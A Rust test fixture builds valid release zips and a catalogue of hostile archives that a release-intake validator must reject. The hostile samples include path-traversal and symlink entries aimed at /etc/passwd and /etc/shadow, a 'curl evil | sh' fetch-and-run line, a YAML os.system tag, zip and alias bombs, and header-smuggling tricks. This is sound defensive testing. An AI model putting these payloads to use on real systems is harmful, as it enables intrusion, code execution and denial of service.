//! Release drops for the end-to-end tests: a builder of good releases, and bad drops that intake
//! must reject with the right problem codes.
//!
//! Good releases are written by the `zip` crate, as an integrator's tool would. Hostile archives
//! are written byte by byte by [`RawZip`] (shipgate's, shared with its own release tests),
//! because no well-behaved zip writer produces path traversal, symlinks, lying sizes,
//! overlapping entries or a second Unicode name on request.
//! Each bad drop is otherwise a valid release, so the problem it carries is the one it is named
//! after (intake may find more, e.g. `image_not_found` for its made-up digest).

use std::io::Write;

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use shipgate::testing::many_problems;
pub use shipgate::testing::zip::{RawEntry, RawZip, crc32};

/// A release drop that intake must reject.
#[derive(Debug, Clone)]
pub struct BadDrop {
    /// Unique, usable in an S3 key.
    pub name: &'static str,
    /// The bytes of `release.zip`.
    pub bytes: Vec<u8>,
    /// Problem codes that must all be reported (others may be too).
    pub expected_codes: Vec<&'static str>,
}

/// One image of a release.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReleaseImage {
    pub name: String,
    pub repository: String,
    pub tag: String,
    pub digest: String,
}

/// Builds a good release: `release.json`, an ECS service template in YAML with CloudFormation
/// short-form tags (one container and one `<Name>Image` parameter per image), and `checks.json`.
#[derive(Debug, Clone)]
pub struct ReleaseBuilder {
    application: String,
    version: String,
    message: String,
    integrator_name: String,
    integrator_email: String,
    environments: Option<Vec<String>>,
    images: Vec<ReleaseImage>,
    with_checks: bool,
}

impl ReleaseBuilder {
    /// A release of `application` at `version` with no image yet, integrator Acme, checks on.
    pub fn new(application: &str, version: &str) -> Self {
        Self {
            application: application.to_owned(),
            version: version.to_owned(),
            message: format!("{application} {version}: adds refunds, fixes totals rounding."),
            integrator_name: "Acme Integrations".to_owned(),
            integrator_email: "release@acme.example".to_owned(),
            environments: None,
            images: Vec::new(),
            with_checks: true,
        }
    }

    /// Adds an image. `name` is a lowercase label (`web`), used in placeholders and parameter
    /// names (`web` → `WebImage`).
    pub fn image(mut self, name: &str, repository: &str, tag: &str, digest: &str) -> Self {
        self.images.push(ReleaseImage {
            name: name.to_owned(),
            repository: repository.to_owned(),
            tag: tag.to_owned(),
            digest: digest.to_owned(),
        });
        self
    }

    pub fn integrator(mut self, name: &str, email: &str) -> Self {
        self.integrator_name = name.to_owned();
        self.integrator_email = email.to_owned();
        self
    }

    pub fn integrator_email(mut self, email: &str) -> Self {
        self.integrator_email = email.to_owned();
        self
    }

    pub fn message(mut self, message: &str) -> Self {
        self.message = message.to_owned();
        self
    }

    /// Environments in promotion order; the manifest leaves the field out when not set.
    pub fn environments(mut self, environments: &[&str]) -> Self {
        self.environments = Some(environments.iter().map(|e| (*e).to_owned()).collect());
        self
    }

    /// A release without a checks file.
    pub fn without_checks(mut self) -> Self {
        self.with_checks = false;
        self
    }

    /// `release.json`.
    pub fn manifest(&self) -> Value {
        let mut parameters = serde_json::Map::new();
        parameters.insert("Version".into(), json!("${release.version}"));
        for image in &self.images {
            parameters.insert(
                parameter_name(&image.name),
                json!(format!("${{image.{}.uri}}", image.name)),
            );
        }
        let mut manifest = json!({
            "schema_version": "shipgate.release/v1",
            "application": self.application,
            "version": self.version,
            "message": self.message,
            "integrator": {"name": self.integrator_name, "email": self.integrator_email},
            "images": self.images.iter().map(|i| json!({
                "name": i.name, "repository": i.repository, "tag": i.tag, "digest": i.digest,
            })).collect::<Vec<_>>(),
            "templates": [{
                "path": "templates/service.yaml",
                "stack": "service",
                "parameters": parameters,
            }],
        });
        if let Some(environments) = &self.environments {
            manifest["environments"] = json!(environments);
        }
        if self.with_checks {
            manifest["checks"] = json!("checks.json");
        }
        manifest
    }

    /// The ECS service template (YAML, short-form tags).
    pub fn template(&self) -> String {
        let mut parameters = String::new();
        let mut containers = String::new();
        for (i, image) in self.images.iter().enumerate() {
            let param = parameter_name(&image.name);
            parameters.push_str(&format!(
                "  {param}:\n    Type: String\n    Description: URI of the {} image, by digest\n",
                image.name
            ));
            let port = 8080 + i;
            containers.push_str(&format!(
                r#"        - Name: {name}
          Image: !Ref {param}
          Essential: true
          PortMappings:
            - ContainerPort: {port}
          Environment:
            - Name: RELEASE_VERSION
              Value: !Ref Version
            - Name: STAGE
              Value: !Select [1, !Split ["-", !Ref "AWS::StackName"]]
          LogConfiguration:
            LogDriver: awslogs
            Options:
              awslogs-group: !Ref LogGroup
              awslogs-region: !Ref "AWS::Region"
              awslogs-stream-prefix: {name}
"#,
                name = image.name,
            ));
        }
        // Blue and green, the same but for their names.
        let target_groups: String = ["Blue", "Green"]
            .iter()
            .map(|colour| {
                format!(
                    r#"  {colour}TargetGroup:
    Type: AWS::ElasticLoadBalancingV2::TargetGroup
    Properties:
      VpcId: !Ref VpcId
      Port: 8080
      Protocol: HTTP
      TargetType: ip
      HealthCheckPath: /health
"#
                )
            })
            .collect();
        let first = self.images.first().map_or("web", |i| i.name.as_str());
        format!(
            r#"AWSTemplateFormatVersion: "2010-09-09"
Description: {app} - ECS service behind the shared ALB, blue/green target groups
Parameters:
  Version:
    Type: String
{parameters}  ClusterName:
    Type: String
    Default: {app}
  VpcId:
    Type: String
    Default: vpc-0123456789abcdef0
Conditions:
  IsProd: !Equals [!Select [1, !Split ["-", !Ref "AWS::StackName"]], prod]
Resources:
  LogGroup:
    Type: AWS::Logs::LogGroup
    Properties:
      LogGroupName: !Sub "/shipgate/${{AWS::StackName}}"
      RetentionInDays: !If [IsProd, 90, 14]
  TaskDefinition:
    Type: AWS::ECS::TaskDefinition
    Properties:
      Family: !Sub "${{AWS::StackName}}-task"
      RequiresCompatibilities: [FARGATE]
      NetworkMode: awsvpc
      Cpu: "256"
      Memory: "512"
      ContainerDefinitions:
{containers}{target_groups}  Service:
    Type: AWS::ECS::Service
    Properties:
      Cluster: !Ref ClusterName
      TaskDefinition: !Ref TaskDefinition
      LaunchType: FARGATE
      DesiredCount: !If [IsProd, 3, 1]
      LoadBalancers:
        - ContainerName: {first}
          ContainerPort: 8080
          TargetGroupArn: !Ref BlueTargetGroup
Outputs:
  ServiceName:
    Value: !GetAtt Service.Name
  TaskDefinitionArn:
    Value: !Ref TaskDefinition
  BlueTargetGroupArn:
    Value: !Ref BlueTargetGroup
  GreenTargetGroupArn:
    Value: !Ref GreenTargetGroup
  LogGroupArn:
    Value: !GetAtt LogGroup.Arn
"#,
            app = self.application,
        )
    }

    /// `checks.json`.
    pub fn checks(&self) -> Value {
        json!({
            "schema_version": "shipgate.checks/v1",
            "checks": [
                {"name": "health", "method": "GET", "path": "/health", "expect_status": 200,
                 "expect_body_contains": "ok", "timeout_ms": 3000},
                {"name": "version", "method": "GET", "path": "/version", "expect_status": 200,
                 "expect_body_contains": self.version},
                {"name": "unknown-route", "method": "GET", "path": "/no-such-page",
                 "expect_status": 404}
            ]
        })
    }

    /// The files of the release, `release.json` first.
    pub fn files(&self) -> Vec<(String, Vec<u8>)> {
        let mut files = vec![
            ("release.json".to_owned(), pretty(&self.manifest())),
            (
                "templates/service.yaml".to_owned(),
                self.template().into_bytes(),
            ),
        ];
        if self.with_checks {
            files.push(("checks.json".to_owned(), pretty(&self.checks())));
        }
        files
    }

    /// `release.zip`, written by the `zip` crate (deflate, with a `templates/` directory entry).
    pub fn build(&self) -> Vec<u8> {
        let mut files = self.files();
        files.insert(1, ("templates/".to_owned(), Vec::new()));
        zip_with_zip_crate(&files)
    }
}

/// A good release of one image named `web` (tag `version`) at `repository@digest`.
pub fn good_release(application: &str, version: &str, repository: &str, digest: &str) -> Vec<u8> {
    ReleaseBuilder::new(application, version)
        .image("web", repository, version, digest)
        .build()
}

/// `web` → `WebImage`, `api-gw` → `ApiGwImage`.
fn parameter_name(image: &str) -> String {
    let mut out = String::new();
    for part in image.split('-') {
        let mut chars = part.chars();
        if let Some(first) = chars.next() {
            out.extend(first.to_uppercase());
            out.extend(chars);
        }
    }
    out.push_str("Image");
    out
}

fn pretty(value: &Value) -> Vec<u8> {
    serde_json::to_vec_pretty(value).expect("a JSON value serialises")
}

/// Writes `files` with the `zip` crate (deflate; names ending in `/` are directories).
pub fn zip_with_zip_crate(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .unix_permissions(0o644);
    for (name, data) in files {
        if name.ends_with('/') {
            writer
                .add_directory(name.as_str(), options)
                .expect("zip in memory");
        } else {
            writer
                .start_file(name.as_str(), options)
                .expect("zip in memory");
            writer.write_all(data).expect("zip in memory");
        }
    }
    writer.finish().expect("zip in memory").into_inner()
}

/// A digest that is well formed (and in no registry).
fn fake_digest(seed: &str) -> String {
    format!("sha256:{}", hex::encode(Sha256::digest(seed.as_bytes())))
}

/// The release every bad drop starts from.
fn base() -> ReleaseBuilder {
    ReleaseBuilder::new("orders", "9.9.9").image(
        "web",
        "orders/web",
        "9.9.9",
        &fake_digest("orders/web:9.9.9"),
    )
}

fn base_files() -> Vec<(String, Vec<u8>)> {
    base().files()
}

/// The base release as stored entries, edited by `edit`.
fn raw_base(edit: impl FnOnce(&mut RawZip)) -> Vec<u8> {
    let mut zip = RawZip::of(&base_files());
    edit(&mut zip);
    zip.build()
}

/// The base release as stored entries, plus `extra`.
fn base_plus(extra: RawEntry) -> Vec<u8> {
    raw_base(|zip| {
        zip.push(extra);
    })
}

/// The base release as stored entries, its manifest written as `entry`.
fn base_with_manifest(entry: RawEntry) -> Vec<u8> {
    raw_base(|zip| {
        zip.replace("release.json", entry);
    })
}

/// The base release with its manifest edited by `edit`.
fn with_manifest(edit: impl FnOnce(&mut Value)) -> Vec<u8> {
    let builder = base();
    let mut manifest = builder.manifest();
    edit(&mut manifest);
    let mut files = builder.files();
    files[0].1 = pretty(&manifest);
    zip_with_zip_crate(&files)
}

/// The base release with file `name` replaced (or added) by `data`.
fn with_file(name: &str, data: &[u8]) -> Vec<u8> {
    let mut files = base_files();
    match files.iter_mut().find(|(n, _)| n == name) {
        Some(file) => file.1 = data.to_vec(),
        None => files.push((name.to_owned(), data.to_vec())),
    }
    zip_with_zip_crate(&files)
}

/// The base release with `section` inserted in its template before `Resources:`.
fn with_template_before_resources(section: &str) -> Vec<u8> {
    let template =
        base()
            .template()
            .replacen("\nResources:\n", &format!("\n{section}Resources:\n"), 1);
    with_file("templates/service.yaml", template.as_bytes())
}

/// A `Metadata` section that would be 10^9 strings if its aliases were expanded.
fn billion_laughs() -> String {
    let mut out =
        String::from("Metadata:\n  l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..10 {
        let p = i - 1;
        out.push_str(&format!(
            "  l{i}: &l{i} [*l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}, *l{p}]\n"
        ));
    }
    out
}

/// `haystack` with the first `needle` replaced by `replacement` (byte-level: for invalid UTF-8).
/// A needle that is not there is a broken fixture, not a drop.
fn replace_bytes(haystack: &[u8], needle: &[u8], replacement: &[u8]) -> Vec<u8> {
    let at = haystack
        .windows(needle.len())
        .position(|w| w == needle)
        .unwrap_or_else(|| panic!("fixture: {:?} not found", String::from_utf8_lossy(needle)));
    [&haystack[..at], replacement, &haystack[at + needle.len()..]].concat()
}

fn drop_of(name: &'static str, bytes: Vec<u8>, expected_codes: &[&'static str]) -> BadDrop {
    BadDrop {
        name,
        bytes,
        expected_codes: expected_codes.to_vec(),
    }
}

/// The codes intake decides against the application's declaration, not from the drop alone.
pub const DECIDED_BY_THE_DECLARATION: [&str; 2] =
    ["application_unknown", "environments_not_in_chain"];

/// Every bad drop, each with the problem codes intake must report for it.
pub fn bad_drops() -> Vec<BadDrop> {
    let manifest_bytes = pretty(&base().manifest());
    let good = base().build();
    vec![
        // --- Not a usable archive at all.
        drop_of(
            "not-a-zip",
            b"this is a README, not a zip archive\n".repeat(20),
            &["not_a_zip"],
        ),
        drop_of("empty-object", Vec::new(), &["not_a_zip"]),
        drop_of("truncated-zip", good[..good.len() / 2].to_vec(), &["truncated_zip"]),
        drop_of("empty-zip", RawZip::new().build(), &["empty_zip"]),
        drop_of(
            "self-extracting-prefix",
            [b"MZ\x90\x00 self-extractor stub".to_vec(), good.clone()].concat(),
            &["corrupt_zip"],
        ),
        drop_of(
            "multi-disk",
            raw_base(|zip| {
                zip.disk_number = 1;
            }),
            &["unsupported_zip"],
        ),
        drop_of(
            "zip64-bad-locator",
            raw_base(|zip| {
                zip.zip64_end = true;
                zip.zip64_locator_skew = -7;
            }),
            &["corrupt_zip"],
        ),
        // --- Hostile entry names and types.
        drop_of(
            "path-traversal",
            base_plus(RawEntry::stored("../../etc/passwd", b"root:x:0:0::/root:/bin/sh\n")),
            &["path_traversal"],
        ),
        drop_of(
            "absolute-path",
            base_plus(RawEntry::stored("/etc/cron.d/evil", b"* * * * * root sh\n")),
            &["absolute_path"],
        ),
        drop_of(
            "backslash-traversal",
            base_plus(RawEntry::stored("..\\..\\Windows\\evil.dll", b"MZ")),
            &["backslash_in_path", "path_traversal"],
        ),
        drop_of(
            "drive-letter",
            base_plus(RawEntry::stored("C:/Windows/System32/evil.dll", b"MZ")),
            &["drive_letter_path"],
        ),
        drop_of(
            "control-characters-in-name",
            base_plus(RawEntry::raw_name(b"notes\x00.txt\x07", b"hidden")),
            &["invalid_entry_name"],
        ),
        drop_of(
            "symlink-entry",
            base_plus(RawEntry::stored("templates/shared.yaml", b"/etc/shadow").symlink()),
            &["symlink_entry"],
        ),
        drop_of(
            "duplicate-manifest",
            base_plus(RawEntry::stored(
                "release.json",
                br#"{"schema_version": "shipgate.release/v1"}"#,
            )),
            &["duplicate_entry"],
        ),
        drop_of(
            "case-conflict",
            base_plus(RawEntry::stored("templates/SERVICE.yaml", b"Resources: {}")),
            &["case_conflict"],
        ),
        drop_of(
            "unicode-path-smuggling",
            base_plus(RawEntry::stored("readme.txt", b"#!/bin/sh\n").unicode_path("../../evil.sh")),
            &["entry_header_mismatch", "path_traversal"],
        ),
        drop_of(
            "local-header-name-mismatch",
            base_with_manifest(RawEntry::stored("release.json", &manifest_bytes).local_name("release.jsoN")),
            &["entry_header_mismatch"],
        ),
        drop_of(
            "encrypted-entry",
            base_with_manifest(RawEntry::stored("release.json", &manifest_bytes).flags(1)),
            &["encrypted_entry"],
        ),
        drop_of(
            "unsupported-compression",
            base_plus(RawEntry::stored("data/blob.bz2", b"BZh91AY&SY").method(12)),
            &["unsupported_compression"],
        ),
        // --- Lying sizes, bombs and overlaps.
        drop_of(
            "lying-uncompressed-size",
            base_with_manifest(RawEntry::deflated("release.json", &manifest_bytes).declare_uncompressed(64)),
            &["entry_size_mismatch"],
        ),
        drop_of(
            "crc-mismatch",
            base_with_manifest(RawEntry::stored("release.json", &manifest_bytes).declare_crc(0xdead_beef)),
            &["crc_mismatch"],
        ),
        drop_of(
            "overlapping-entries",
            {
                // Fifield's full overlap: many names, one kernel.
                let mut zip = RawZip::of(&base_files());
                zip.push(RawEntry::deflated("kernel/0", &[0u8; 100_000]));
                let kernel = 3;
                for name in ["kernel/1", "kernel/2", "kernel/3", "kernel/4"] {
                    zip.push(RawEntry::deflated(name, &[0u8; 100_000]).local_offset_of(kernel));
                }
                zip.build()
            },
            &["overlapping_entries"],
        ),
        drop_of(
            "quoted-overlap-bomb",
            raw_base(|zip| {
                zip.push(RawEntry::stored("bomb/a", b"aaaa").quote_next());
                zip.push(RawEntry::stored("bomb/b", b"bbbb").quote_next());
                zip.push(RawEntry::deflated("bomb/kernel", &[0u8; 50_000]));
            }),
            &["overlapping_entries"],
        ),
        // --- One archive, one reading (issue 16): what a directory reader and a reader of
        // local headers would see differently, and entries intake does not use.
        drop_of(
            "leading-bytes-with-shifted-offsets",
            raw_base(|zip| {
                zip.leading = b"#!/bin/sh\nexec unzip -o \"$0\"\n".to_vec();
            }),
            &["leading_bytes"],
        ),
        drop_of(
            "hidden-local-record",
            {
                let mut zip = RawZip::new();
                let files = base_files();
                let evil = RawEntry::stored("release.json", br#"{"schema_version": "evil"}"#);
                zip.push(RawEntry::stored(&files[0].0, &files[0].1).hiding(&evil));
                for (name, data) in &files[1..] {
                    zip.push(RawEntry::stored(name, data));
                }
                zip.build()
            },
            &["unexplained_bytes"],
        ),
        drop_of(
            "directory-with-data",
            base_plus(RawEntry::stored("templates/", b"#!/bin/sh\ncurl evil | sh\n")),
            &["directory_with_data"],
        ),
        drop_of(
            "local-zip64-sizes-disagree",
            base_with_manifest(
                RawEntry::stored("release.json", &manifest_bytes)
                    .local_zip64_sizes(manifest_bytes.len() as u64, 3),
            ),
            &["entry_header_mismatch"],
        ),
        drop_of(
            "data-descriptor-disagrees",
            base_plus(RawEntry::stored("notes.txt", b"hello").descriptor_values(0, 5, 4000)),
            &["data_descriptor_mismatch"],
        ),
        drop_of(
            "second-end-record-in-comment",
            raw_base(|zip| {
                let mut other = RawZip::new();
                other.push(RawEntry::stored("release.json", b"{}"));
                zip.comment = other.build();
            }),
            &["ambiguous_end_record"],
        ),
        drop_of(
            "unread-entry-is-a-bomb",
            base_plus(
                RawEntry::deflated("assets/zeros.bin", &vec![0u8; 32 << 20])
                    .declare_uncompressed(60_000),
            ),
            &["entry_size_mismatch"],
        ),
        drop_of(
            "huge-declared-size",
            base_plus(
                RawEntry::stored("data/huge.bin", &[7u8; 1024]).declare_uncompressed(8 << 30),
            ),
            &["uncompressed_too_large", "compression_ratio_too_high"],
        ),
        drop_of(
            "compression-bomb",
            with_file("data/zeros.bin", &vec![0u8; 16 << 20]),
            &["compression_ratio_too_high"],
        ),
        drop_of(
            "too-many-entries",
            raw_base(|zip| {
                for i in 0..10_001 {
                    zip.push(RawEntry::stored(&format!("f/{i}"), b""));
                }
            }),
            &["too_many_entries"],
        ),
        drop_of(
            "manifest-too-large",
            {
                let mut big = manifest_bytes.clone();
                big.extend(vec![b' '; 2 << 20]);
                let mut zip = RawZip::of(&base_files());
                zip.replace("release.json", RawEntry::stored("release.json", &big));
                zip.build()
            },
            &["entry_too_large"],
        ),
        // --- The manifest.
        drop_of(
            "manifest-missing",
            zip_with_zip_crate(&base_files()[1..]),
            &["manifest_missing"],
        ),
        drop_of(
            "manifest-in-a-folder",
            zip_with_zip_crate(
                &base_files()
                    .into_iter()
                    .map(|(n, d)| (format!("orders-9.9.9/{n}"), d))
                    .collect::<Vec<_>>(),
            ),
            &["manifest_missing"],
        ),
        drop_of(
            "manifest-not-json",
            with_file("release.json", b"application: orders\nversion: 9.9.9\n"),
            &["manifest_invalid_json"],
        ),
        drop_of(
            "manifest-not-utf8",
            // The message saved in Latin-1 by an editor: "é" as the single byte 0xe9.
            with_file(
                "release.json",
                &replace_bytes(&manifest_bytes, b"adds refunds", b"ajoute les remboursements \xe9t\xe9"),
            ),
            &["manifest_invalid_json"],
        ),
        drop_of(
            "manifest-duplicate-key",
            with_file(
                "release.json",
                &replace_bytes(
                    &manifest_bytes,
                    b"\"version\": \"9.9.9\"",
                    b"\"version\": \"9.9.9\", \"version\": \"1.0.0\"",
                ),
            ),
            &["manifest_invalid_json"],
        ),
        drop_of(
            "unknown-schema-version",
            with_manifest(|m| m["schema_version"] = json!("shipgate.release/v2")),
            &["unknown_schema_version"],
        ),
        drop_of(
            "unknown-fields",
            with_manifest(|m| {
                m["images"][0]["sha"] = json!("abc");
                m["approvers"] = json!(["someone@example.com"]);
            }),
            &["unknown_field"],
        ),
        drop_of(
            "missing-fields",
            with_manifest(|m| {
                if let Some(top) = m.as_object_mut() {
                    top.remove("application");
                }
                if let Some(integrator) = m["integrator"].as_object_mut() {
                    integrator.remove("email");
                }
            }),
            &["missing_field"],
        ),
        drop_of(
            "wrong-types",
            with_manifest(|m| {
                m["version"] = json!(9.9);
                m["images"] = json!({"web": "orders/web"});
            }),
            &["wrong_type"],
        ),
        drop_of(
            "bad-application-name",
            with_manifest(|m| m["application"] = json!("Orders App")),
            &["invalid_value"],
        ),
        drop_of(
            "bad-digest",
            with_manifest(|m| m["images"][0]["digest"] = json!("sha256:ABCDEF")),
            &["invalid_digest"],
        ),
        drop_of(
            "bad-email",
            with_manifest(|m| {
                m["integrator"]["email"] = json!("Acme Integrations <release@acme>")
            }),
            &["invalid_email"],
        ),
        drop_of(
            "bad-repository-and-tag",
            with_manifest(|m| {
                m["images"][0]["repository"] =
                    json!("111111111111.dkr.ecr.eu-west-1.amazonaws.com/orders/web");
                m["images"][0]["tag"] = json!("-latest");
            }),
            &["invalid_repository", "invalid_tag"],
        ),
        drop_of(
            "duplicate-image",
            with_manifest(|m| {
                let first = m["images"][0].clone();
                if let Some(images) = m["images"].as_array_mut() {
                    images.push(first);
                }
            }),
            &["duplicate_image"],
        ),
        // Decided against the application's declaration (the local stack's `orders`:
        // int → stg → prod), by intake, not by reading the drop.
        drop_of(
            "unknown-environment",
            with_manifest(|m| m["environments"] = json!(["int", "preprod", "prod"])),
            &["environments_not_in_chain"],
        ),
        drop_of(
            "environments-skip-one",
            with_manifest(|m| m["environments"] = json!(["int", "prod"])),
            &["environments_not_in_chain"],
        ),
        drop_of(
            "unknown-application",
            with_manifest(|m| m["application"] = json!("billing")),
            &["application_unknown"],
        ),
        drop_of(
            "unknown-placeholder",
            with_manifest(|m| {
                m["templates"][0]["parameters"]["WebImage"] = json!("${image.api.uri}")
            }),
            &["unknown_placeholder"],
        ),
        drop_of(
            "duplicate-stack",
            with_manifest(|m| {
                if let Some(templates) = m["templates"].as_array_mut() {
                    templates.push(json!({"path": "templates/service.yaml", "stack": "service"}));
                }
            }),
            &["duplicate_template", "duplicate_stack"],
        ),
        // --- Templates and checks.
        drop_of(
            "template-missing",
            zip_with_zip_crate(
                &base_files()
                    .into_iter()
                    .filter(|(n, _)| !n.starts_with("templates/"))
                    .collect::<Vec<_>>(),
            ),
            &["template_missing"],
        ),
        drop_of(
            "template-not-cloudformation",
            with_file(
                "templates/service.yaml",
                b"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: orders\n",
            ),
            &["template_invalid"],
        ),
        drop_of(
            "template-bad-yaml",
            with_file(
                "templates/service.yaml",
                b"Resources:\n  Queue:\n    Type: AWS::SQS::Queue\n   Properties: [\n",
            ),
            &["template_invalid"],
        ),
        drop_of(
            "template-unknown-parameter",
            with_manifest(|m| m["templates"][0]["parameters"]["DesiredCount"] = json!("3")),
            &["unknown_template_parameter"],
        ),
        // --- Templates written to be read two ways, or to exhaust the reader (issue 16).
        drop_of(
            "template-resources-twice",
            with_file(
                "templates/service.yaml",
                format!(
                    "{}Resources:\n  Backdoor:\n    Type: AWS::IAM::User\n",
                    base().template()
                )
                .as_bytes(),
            ),
            &["template_duplicate_key"],
        ),
        drop_of(
            "template-json-key-twice",
            // JSON by its first character, whatever the file's name.
            with_file(
                "templates/service.yaml",
                br#"{"Resources": {"Topic": {"Type": "AWS::SNS::Topic"},
                    "Topic": {"Type": "AWS::IAM::User"}}}"#,
            ),
            &["template_duplicate_key"],
        ),
        drop_of(
            "template-python-tag",
            with_template_before_resources(
                "Metadata:\n  Build: !!python/object/apply:os.system [\"id\"]\n",
            ),
            &["template_unknown_tag"],
        ),
        drop_of(
            "template-billion-laughs",
            with_template_before_resources(&billion_laughs()),
            &["template_yaml_alias"],
        ),
        drop_of(
            "template-nested-deep",
            // Under 64 KiB, so that no ratio limit refuses it first: the depth limit does.
            with_template_before_resources(&format!(
                "Metadata:\n  Deep: {}\n",
                "[".repeat(60_000)
            )),
            &["template_too_deep"],
        ),
        drop_of(
            "manifest-bidi-override-in-message",
            with_manifest(|m| {
                m["message"] = json!("Fixes refunds. \u{202e}Approved by security\u{202c}")
            }),
            &["invalid_value"],
        ),
        drop_of(
            "manifest-escape-in-parameter",
            with_manifest(|m| {
                m["templates"][0]["parameters"]["WebImage"] = json!("${image.web.uri}\u{1b}[2J")
            }),
            &["invalid_value"],
        ),
        drop_of(
            "checks-missing",
            zip_with_zip_crate(
                &base_files()
                    .into_iter()
                    .filter(|(n, _)| n != "checks.json")
                    .collect::<Vec<_>>(),
            ),
            &["checks_missing"],
        ),
        drop_of(
            "checks-invalid",
            with_file(
                "checks.json",
                br#"{"schema_version": "shipgate.checks/v1",
                     "checks": [{"name": "health", "method": "FETCH", "path": "https://example.com/",
                                 "expect_status": 700}]}"#,
            ),
            &["checks_invalid"],
        ),
        // --- One drop, many problems: every one must be reported.
        drop_of(
            "many-problems",
            {
                let builder = base();
                let manifest = many_problems::manifest(builder.manifest());
                let mut files = builder.files();
                files[0].1 = pretty(&manifest);
                files[2].1 = b"{\"checks\": \"all\"}".to_vec();
                let mut zip = RawZip::of(&files);
                zip.push(RawEntry::stored("../escape.sh", b"#!/bin/sh\n"));
                zip.push(RawEntry::stored("link", b"/etc/passwd").symlink());
                zip.build()
            },
            &[many_problems::CODES.as_slice(), &["symlink_entry"]].concat(),
        ),
    ]
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use bytes::Bytes;
    use shipgate::release::{Limits, ProblemCode, inspect_release};

    use super::*;

    fn inspect(bytes: &[u8]) -> shipgate::release::Inspection {
        futures::executor::block_on(inspect_release(
            &Bytes::copy_from_slice(bytes),
            &Limits::default(),
        ))
    }

    #[test]
    fn the_good_release_has_no_problem() {
        let digest = fake_digest("x");
        let inspection = inspect(&good_release("orders", "1.4.0", "orders/web", &digest));
        assert!(inspection.is_acceptable(), "{:#?}", inspection.problems);
        let manifest = inspection.manifest.expect("a manifest");
        assert_eq!(manifest.images[0].digest, digest);
        assert_eq!(inspection.templates[0].resource_count, 5);
        assert_eq!(inspection.checks.expect("checks").checks.len(), 3);
    }

    #[test]
    fn a_release_of_several_images_without_checks_has_no_problem() {
        let zip = ReleaseBuilder::new("billing", "2.0.0-rc.1")
            .image("api-gw", "billing/api-gw", "2.0.0-rc.1", &fake_digest("a"))
            .image("worker", "billing/worker", "2.0.0-rc.1", &fake_digest("b"))
            .integrator("Jo Smith", "jo.smith+releases@integrator.example")
            .environments(&["dev", "int", "prod"])
            .without_checks()
            .build();
        let inspection = inspect(&zip);
        assert!(inspection.is_acceptable(), "{:#?}", inspection.problems);
        let manifest = inspection.manifest.expect("a manifest");
        assert_eq!(manifest.environments, ["dev", "int", "prod"]);
        assert!(manifest.templates[0].parameters.contains_key("ApiGwImage"));
        assert!(
            inspection.templates[0]
                .body
                .contains("Image: !Ref WorkerImage")
        );
    }

    #[test]
    fn the_raw_writer_makes_valid_archives_when_asked_to_tell_the_truth() {
        let mut zip = RawZip::new();
        for (name, data) in base_files() {
            zip.push(RawEntry::deflated(&name, &data).zip64());
        }
        zip.zip64_end = true;
        let inspection = inspect(&zip.build());
        assert!(inspection.is_acceptable(), "{:#?}", inspection.problems);
        let stored = inspect(&RawZip::of(&base_files()).build());
        assert!(stored.is_acceptable(), "{:#?}", stored.problems);
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    }

    #[test]
    fn every_bad_drop_reports_its_expected_codes() {
        let drops = bad_drops();
        assert!(drops.len() >= 25, "{} bad drops", drops.len());
        let names: BTreeSet<_> = drops.iter().map(|d| d.name).collect();
        assert_eq!(names.len(), drops.len(), "bad drop names are unique");
        let mut failures = Vec::new();
        for drop in &drops {
            assert!(!drop.expected_codes.is_empty(), "{}", drop.name);
            let inspection = inspect(&drop.bytes);
            let found: BTreeSet<&str> = inspection
                .problems
                .iter()
                .map(|p| p.code.as_str())
                .collect();
            for code in &drop.expected_codes {
                assert!(
                    ProblemCode::from_code(code).is_some(),
                    "{}: {code}",
                    drop.name
                );
                // Intake finds these by asking for the application's declaration.
                if DECIDED_BY_THE_DECLARATION.contains(code) {
                    continue;
                }
                if !found.contains(code) {
                    failures.push(format!("{}: expected {code}, found {found:?}", drop.name));
                }
            }
            assert!(inspection.problems.iter().all(|p| !p.message.is_empty()));
        }
        assert!(failures.is_empty(), "{failures:#?}");
    }
}
